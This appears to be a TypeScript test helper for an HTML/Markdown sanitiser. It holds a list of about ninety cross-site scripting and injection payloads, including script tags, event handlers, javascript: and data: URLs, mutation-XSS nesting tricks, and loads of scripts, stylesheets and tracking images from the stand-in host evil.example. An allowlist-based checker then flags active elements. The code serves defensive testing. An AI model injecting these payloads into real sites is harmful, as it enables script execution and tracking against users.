import { attributesOf, type Element, elementsOf } from "./samples.ts";

/** What each of them does where it gets through. */
export const ATTACKS: readonly string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</script>",
  "<script/x>alert(1)</script>",
  "text <script>alert(1)</script> text",
  "<style>@import url(//evil.example/x.css)</style>",
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example/">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="//evil.example/x.swf"></object><embed src="//evil.example/x">',
  '<form action="//evil.example/"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
  '<img src="x" onerror="alert(1)">',
  "<img src=x onerror=alert(1)//",
  '<img src="x"onerror="alert(1)">',
  '<img/src="x"/onerror="alert(1)">',
  '<img src="javascript:alert(1)">',
  '<img src="https://evil.example/track.gif">',
  '<picture onclick="alert(1)"><source srcset="https://evil.example/a.gif" onerror="alert(1)"><img src=x></picture>',
  '<img srcset="https://evil.example/track.gif 1x" src="https://evil.example/x.png">',
  "![x](https://evil.example/track.gif)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  '![x"onerror="alert(1)](https://evil.example/x.png "y\\"onerror=alert(1)")',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](java&#10;script:alert(1))",
  "[x](&#x1;javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://evil.example/x)",
  '[x](https://evil.example/ "\\" onmouseover=\\"alert(1)")',
  '[x](<https://evil.example/"onmouseover="alert(1)>)',
  "<javascript:alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=" ping="//evil.example/">x</a>',
  '<a href="https://evil.example/" onclick="alert(1)" style="position:fixed" target="_blank">x</a>',
  "<a onmouseover=alert(1)>x</a>",
  '<div style="background:url(//evil.example/x)">x</div>',
  '<details ontoggle="alert(1)" open><summary>x</summary></details>',
  '<svg onload="alert(1)"><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<template><img src=x onerror=alert(1)></template>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?php echo '<img src=x onerror=alert(1)>' ?>",
  "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>",
  "</main></body></html><script>alert(1)</script>",
  "</p></div></aside></main>",
  "<table><tr><td></main><script>alert(1)</script>",
  "<video autoplay><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
  '<body onload="alert(1)"><html onclick="alert(1)">',
  '<input autofocus onfocus="alert(1)"><select onfocus=alert(1) autofocus></select>',
  '<marquee onstart="alert(1)">x</marquee>',
  '<p id="x" class="skip" onclick="alert(1)" data-root="//evil.example/">x</p>',
  '<a id="main"></a><a name="main"></a><p id="pp-search">x</p>',
  "`` <img src=x onerror=alert(1)> ``",
  "```html\n<img src=x onerror=alert(1)></code></pre><script>alert(1)</script>\n```",
  '```"><script>alert(1)</script>\nx\n```',
  '```hcl\nx = "</code><script>alert(1)</script>"\n```',
  "# <img src=x onerror=alert(1)>",
  '## x"><script>alert(1)</script>',
  '- `x"><img src=x onerror=alert(1)>` (String)',
  "| a |\n| --- |\n| <img src=x onerror=alert(1)> |",
  "[x]: javascript:alert(1)\n\n[x]",
  "-> <script>alert(1)</script>",
  '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: <img src=x onerror=alert(1)> [x](javascript:alert(1))',
  "- [x] <script>alert(1)</script>",
  "> [!NOTE]\n> <script>alert(1)</script>",
  "---\npage_title: '<script>alert(1)</script>\"'\nsubcategory: '\"><script>alert(1)</script>'\ndescription: '\"><script>alert(1)</script>'\n---\n",
  "<b <script>alert(1)</script>",
  "<a href='x' <img src=x onerror=alert(1)>",
  '<a href="https://evil.example/\'><img src=x onerror=alert(1)>">x</a>',
  "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "\\<script>alert(1)\\</script>",
  "\u0000<script\u0000>alert(1)</script>",
];

const ELEMENTS = new Set(
  (
    "a abbr aside b blockquote br caption code dd del details dfn div dl dt em h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark nav ol p " +
    "pre q s samp small span strong sub summary sup table tbody td tfoot th thead time tr u ul var wbr"
  ).split(" "),
);
const ATTRIBUTES = new Set(
  "align alt aria-current aria-label class colspan dir height href id loading open role rowspan scope src start tabindex title value width".split(
    " ",
  ),
);

/** Everything on a page that could run or send a request. */
export function findActive(page: string): string[] {
  const main = elementsOf(page, true).find(({ tagName }) => tagName === "main");
  if (main === undefined) return ["no main"];
  return findActiveIn(descendants(main));
}

export function findActiveIn(elements: readonly Element[]): string[] {
  return elements.flatMap((element) => {
    const odd = ELEMENTS.has(element.tagName) ? [] : [`<${element.tagName}>`];
    const attributes = Object.entries(attributesOf(element)).filter(
      ([name, value]) => !ATTRIBUTES.has(name) || !isHarmless(name, value),
    );
    return [...odd, ...attributes.map(([name, value]) => `<${element.tagName} ${name}="${value}">`)];
  });
}

export function descendants(element: ReturnType<typeof elementsOf>[number]): ReturnType<typeof elementsOf> {
  return element.childNodes.flatMap((child) => ("tagName" in child ? [child, ...descendants(child)] : []));
}

function isHarmless(name: string, value: string): boolean {
  if (name === "src") return /^\.\.?\//.test(value);
  if (name === "href") return /^(?:#|\.\.?\/|https:\/\/|http:\/\/|mailto:)/.test(value);
  if (name === "id") return value !== "main" && !value.startsWith("pp-");
  return true;
}
